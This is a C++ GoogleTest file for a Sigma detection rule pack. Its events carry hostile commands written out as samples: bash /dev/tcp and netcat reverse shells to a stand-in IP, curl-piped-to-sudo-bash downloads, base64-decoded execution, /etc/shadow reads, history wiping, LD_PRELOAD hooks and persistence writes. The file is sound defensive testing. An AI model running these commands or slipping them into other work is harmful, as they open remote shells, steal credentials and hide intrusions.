// Ward's own rule pack (rules/sigma/ward) against realistic events, as the sensor would report them.
#include <gtest/gtest.h>

#include <map>
#include <set>

#include "detect/sigma.h"
#include "detect/sigma_test_util.h"

namespace ward::detect {
namespace {

using testing::EmptyRow;
using testing::kFile;
using testing::kNet;
using testing::kProc;
using testing::Set;

events::Row Proc(std::string image, std::string cmd, std::string parent = "/usr/bin/bash") {
  events::Row r = EmptyRow(kProc);
  Set(r, kProc, "FolderPath", image);
  Set(r, kProc, "ProcessCommandLine", cmd);
  Set(r, kProc, "InitiatingProcessFolderPath", parent);
  return r;
}
events::Row File(std::string path, std::string writer) {
  events::Row r = EmptyRow(kFile);
  Set(r, kFile, "FolderPath", path);
  Set(r, kFile, "InitiatingProcessFolderPath", writer);
  return r;
}
events::Row Net(std::string image, std::string ip, int64_t port) {
  events::Row r = EmptyRow(kNet);
  Set(r, kNet, "InitiatingProcessFolderPath", image);
  Set(r, kNet, "RemoteIP", ip);
  Set(r, kNet, "RemotePort", port);
  return r;
}

class WardPackTest : public ::testing::Test {
 protected:
  void SetUp() override {
    auto outcomes = set_.LoadDirectory(WARD_SOURCE_DIR "/rules/sigma/ward");
    ASSERT_TRUE(outcomes.has_value());
    ASSERT_GE(outcomes->size(), 8u);
    for (const SigmaLoadOutcome& o : *outcomes) {
      ASSERT_EQ(o.state, SigmaLoadState::kLoaded) << o.reason;
      std::string file = o.source.substr(o.source.find_last_of('/') + 1);
      index_[file.substr(0, file.size() - 4)] = static_cast<uint32_t>(o.rule_index);
    }
    ASSERT_TRUE(set_.Compile().ok());
  }
  // The pack's rules (by file stem) that fire on `row`.
  std::vector<std::string> Fired(const events::Row& row) {
    events::RowBatch batch;
    batch.rows.push_back(row);
    std::vector<SigmaHit> hits;
    EXPECT_TRUE(set_.Match(batch, events::SchemaRegistry::Hunting(), &hits).ok());
    std::vector<std::string> out;
    for (const SigmaHit& h : hits)
      for (const auto& [name, i] : index_)
        if (i == h.rule) out.push_back(name);
    return out;
  }
  bool Fires(std::string_view rule, const events::Row& row) {
    auto f = Fired(row);
    return std::find(f.begin(), f.end(), rule) != f.end();
  }

  SigmaRuleSet set_;
  std::map<std::string, uint32_t> index_;
};

TEST_F(WardPackTest, EveryRuleHasOwnIdAndMdeMetadata) {
  std::set<std::string> ids;
  for (size_t i = 0; i < set_.size(); ++i) {
    const SigmaRuleInfo& info = set_.rule(i);
    EXPECT_TRUE(ids.insert(info.id).second) << info.title;
    EXPECT_EQ(info.id.size(), 36u) << info.title;
    EXPECT_FALSE(info.mitre_techniques.empty()) << info.title;
    EXPECT_NE(info.AlertCategory(), "SuspiciousActivity") << info.title;
    EXPECT_FALSE(info.description.empty()) << info.title;
  }
}

TEST_F(WardPackTest, ReverseShells) {
  EXPECT_TRUE(Fires("proc_bash_dev_tcp_reverse_shell", Proc("/usr/bin/bash", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")));
  EXPECT_TRUE(Fires("proc_bash_dev_tcp_reverse_shell",
                    Proc("/usr/bin/bash", "bash -c 'exec 5<>/dev/tcp/203.0.113.5/80; cat <&5 | bash >&5'")));
  EXPECT_FALSE(Fires("proc_bash_dev_tcp_reverse_shell", Proc("/usr/bin/cat", "cat /dev/tcp.txt")));
  EXPECT_TRUE(Fires("proc_netcat_exec_shell", Proc("/usr/bin/nc", "nc -e /bin/sh 203.0.113.5 4444")));
  EXPECT_TRUE(Fires("proc_netcat_exec_shell", Proc("/usr/bin/ncat", "ncat --sh-exec 'bash -i' 203.0.113.5 443")));
  EXPECT_TRUE(Fires("proc_netcat_exec_shell", Proc("/bin/busybox", "busybox nc -lvp 4444 -e /bin/sh")));
  EXPECT_FALSE(Fires("proc_netcat_exec_shell", Proc("/usr/bin/nc", "nc -zv 10.0.0.1 22")));
  EXPECT_FALSE(Fires("proc_netcat_exec_shell", Proc("/usr/bin/nc", "nc -E 10.0.0.1 22")));  // case matters
}

TEST_F(WardPackTest, DownloadsAndEncodedPayloads) {
  EXPECT_TRUE(Fires("proc_download_piped_to_shell", Proc("/usr/bin/bash", "sh -c curl -fsSL https://x.example/i.sh | sudo bash")));
  EXPECT_TRUE(Fires("proc_download_piped_to_shell", Proc("/usr/bin/bash", "bash -c wget -qO- http://x/y|sh")));
  EXPECT_FALSE(Fires("proc_download_piped_to_shell", Proc("/usr/bin/curl", "curl -o /tmp/shell.txt https://x/y")));
  EXPECT_TRUE(Fires("proc_base64_decoded_execution", Proc("/usr/bin/bash", "bash -c echo ZWNobyBoaQ== | base64 -d | bash")));
  EXPECT_TRUE(Fires("proc_base64_decoded_execution", Proc("/usr/bin/sh", "sh -c eval $(echo aWQ= | base64 --decode)")));
  EXPECT_FALSE(Fires("proc_base64_decoded_execution", Proc("/usr/bin/base64", "base64 -d cert.b64")));
}

TEST_F(WardPackTest, PersistenceWrites) {
  EXPECT_TRUE(Fires("file_cron_persistence_write", File("/etc/cron.d/updater", "/usr/bin/python3.11")));
  EXPECT_TRUE(Fires("file_cron_persistence_write", File("/var/spool/cron/crontabs/root", "/usr/bin/bash")));
  EXPECT_FALSE(Fires("file_cron_persistence_write", File("/var/spool/cron/crontabs/root", "/usr/bin/crontab")));
  EXPECT_FALSE(Fires("file_cron_persistence_write", File("/etc/cron.daily/logrotate", "/usr/bin/dpkg")));
  EXPECT_TRUE(Fires("file_systemd_unit_write", File("/etc/systemd/system/sshd-helper.service", "/usr/bin/cp")));
  EXPECT_TRUE(Fires("file_systemd_unit_write", File("/home/u/.config/systemd/user/sync.timer", "/usr/bin/vim")));
  EXPECT_FALSE(Fires("file_systemd_unit_write", File("/etc/systemd/system/x.service", "/usr/bin/dpkg")));
  EXPECT_FALSE(Fires("file_systemd_unit_write", File("/etc/systemd/system/x.conf", "/usr/bin/cp")));
  EXPECT_TRUE(Fires("file_ssh_authorized_keys_write", File("/root/.ssh/authorized_keys", "/usr/bin/bash")));
  EXPECT_FALSE(Fires("file_ssh_authorized_keys_write", File("/root/.ssh/authorized_keys", "/usr/bin/cloud-init")));
  EXPECT_FALSE(Fires("file_ssh_authorized_keys_write", File("/root/.ssh/known_hosts", "/usr/bin/ssh")));
  EXPECT_TRUE(Fires("file_ld_so_preload_write", File("/etc/ld.so.preload", "/usr/bin/tee")));
  EXPECT_FALSE(Fires("file_ld_so_preload_write", File("/etc/ld.so.conf", "/usr/bin/tee")));
}

TEST_F(WardPackTest, CredentialsAndEvasion) {
  EXPECT_TRUE(Fires("proc_shadow_read", Proc("/usr/bin/cat", "cat /etc/shadow")));
  EXPECT_TRUE(Fires("proc_shadow_read", Proc("/usr/bin/python3", "python3 -c open('/etc/shadow').read()")));
  EXPECT_FALSE(Fires("proc_shadow_read", Proc("/usr/sbin/unix_chkpwd", "unix_chkpwd /etc/shadow")));
  EXPECT_TRUE(Fires("proc_shell_history_clearing", Proc("/usr/bin/bash", "bash -c history -c")));
  EXPECT_TRUE(Fires("proc_shell_history_clearing", Proc("/usr/bin/rm", "rm -f /root/.bash_history")));
  EXPECT_TRUE(Fires("proc_shell_history_clearing", Proc("/usr/bin/ln", "ln -sf /dev/null /root/.zsh_history")));
  EXPECT_FALSE(Fires("proc_shell_history_clearing", Proc("/usr/bin/cat", "cat /root/.bash_history")));
  EXPECT_TRUE(Fires("proc_ld_preload_command_line", Proc("/usr/bin/env", "env LD_PRELOAD=/tmp/.x/libhook.so /usr/bin/sudo -l")));
  EXPECT_FALSE(Fires("proc_ld_preload_command_line", Proc("/usr/bin/env", "env LD_PRELOAD= /usr/bin/id")));
}

TEST_F(WardPackTest, InterpretersConnectingOut) {
  EXPECT_TRUE(Fires("net_interpreter_outbound_connection", Net("/usr/bin/python3.11", "203.0.113.9", 4444)));
  EXPECT_TRUE(Fires("net_interpreter_outbound_connection", Net("/usr/bin/bash", "2001:db8::5", 9001)));
  EXPECT_FALSE(Fires("net_interpreter_outbound_connection", Net("/usr/bin/python3", "203.0.113.9", 443)));
  EXPECT_FALSE(Fires("net_interpreter_outbound_connection", Net("/usr/bin/python3", "192.168.1.10", 4444)));
  EXPECT_FALSE(Fires("net_interpreter_outbound_connection", Net("/usr/bin/python3-config", "203.0.113.9", 4444)));
  EXPECT_FALSE(Fires("net_interpreter_outbound_connection", Net("/usr/sbin/sshd", "203.0.113.9", 4444)));
  events::Row inbound = Net("/usr/bin/python3", "203.0.113.9", 4444);
  Set(inbound, kNet, "ActionType", std::string("InboundConnectionAccepted"));
  EXPECT_FALSE(Fires("net_interpreter_outbound_connection", inbound));
}

}  // namespace
}  // namespace ward::detect
